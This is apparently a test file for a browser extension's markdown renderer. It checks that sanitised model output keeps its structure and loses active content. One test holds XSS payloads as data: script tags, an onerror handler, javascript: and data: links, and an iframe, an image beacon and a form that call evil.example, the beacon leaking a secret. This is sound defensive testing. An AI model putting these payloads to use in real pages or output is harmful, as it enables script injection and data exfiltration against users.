// Markdown rendering safety: model output goes through marked and then
// DOMPurify (the vendored copies the extension ships) into a real DOM.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { JSDOM } from 'jsdom';

const dom = new JSDOM('<!doctype html><body><div id="out"></div></body>', { runScripts: 'outside-only' });
for (const f of ['vendor/marked.umd.js', 'vendor/purify.min.js', 'ui/render.js']) dom.window.eval(readFileSync(new URL('../' + f, import.meta.url), 'utf8'));
const { LaikaRender } = dom.window;
const out = dom.window.document.getElementById('out');

test('markdown renders to its structure', () => {
  LaikaRender.setMarkdown(out, '## Costs\n\n- **178** pounds\n- falling\n\n> quote\n\n`x`', 'markdown');
  assert.equal(out.querySelector('h2').textContent, 'Costs');
  assert.equal(out.querySelectorAll('li').length, 2);
  assert.equal(out.querySelector('strong').textContent, '178');
  assert.ok(out.querySelector('blockquote'));
  assert.equal(out.querySelector('code').textContent, 'x');
});

test('hostile markdown loses everything active', () => {
  const cases = [
    ['script tag', '<script>window.pwned=1</script>hi'],
    ['event handler', '<img src=x onerror="window.pwned=1">'],
    ['javascript link', '[click](javascript:window.pwned=1)'],
    ['data link', '[click](data:text/html,<script>alert(1)</script>)'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['image beacon', '![x](https://evil.example/leak?c=secret)'],
    ['form', '<form action="https://evil.example"><input name=a></form>'],
    ['style', '<style>body{display:none}</style><p style="position:fixed">x</p>'],
    ['svg', '<svg><script>window.pwned=1</script></svg>'],
  ];
  for (const [name, md] of cases) {
    LaikaRender.setMarkdown(out, md, 'markdown');
    const html = out.innerHTML;
    assert.ok(!/<script|<img|<iframe|<form|<input|<style|<svg|onerror|style=|javascript:|data:/i.test(html), name + ': ' + html);
  }
  assert.equal(dom.window.pwned, undefined);
});

test('links open outside with no referrer; only web links keep href', () => {
  LaikaRender.setMarkdown(out, '[a](https://example.com/x) [b](mailto:x@y.z)', 'markdown');
  const [a, b] = out.querySelectorAll('a');
  assert.equal(a.getAttribute('href'), 'https://example.com/x');
  assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
  assert.equal(a.getAttribute('target'), '_blank');
  assert.equal(b.getAttribute('href'), null);
});

test('plain format is text, never HTML', () => {
  LaikaRender.setMarkdown(out, '<b>not bold</b>', 'plain');
  assert.equal(out.querySelector('b'), null);
  assert.equal(out.textContent, '<b>not bold</b>');
});

test('a link that is one long token (a bare URL) is marked to wrap anywhere; titled links are not', () => {
  LaikaRender.setMarkdown(out, '| Source |\n|---|\n| https://example.org/a/very/long/path/without/breaks |\n| [How to organise a river cleanup](https://example.org/x) |', 'markdown');
  const [bare, titled] = out.querySelectorAll('td a');
  assert.equal(bare.className, 'token');
  assert.equal(titled.className, '');
});
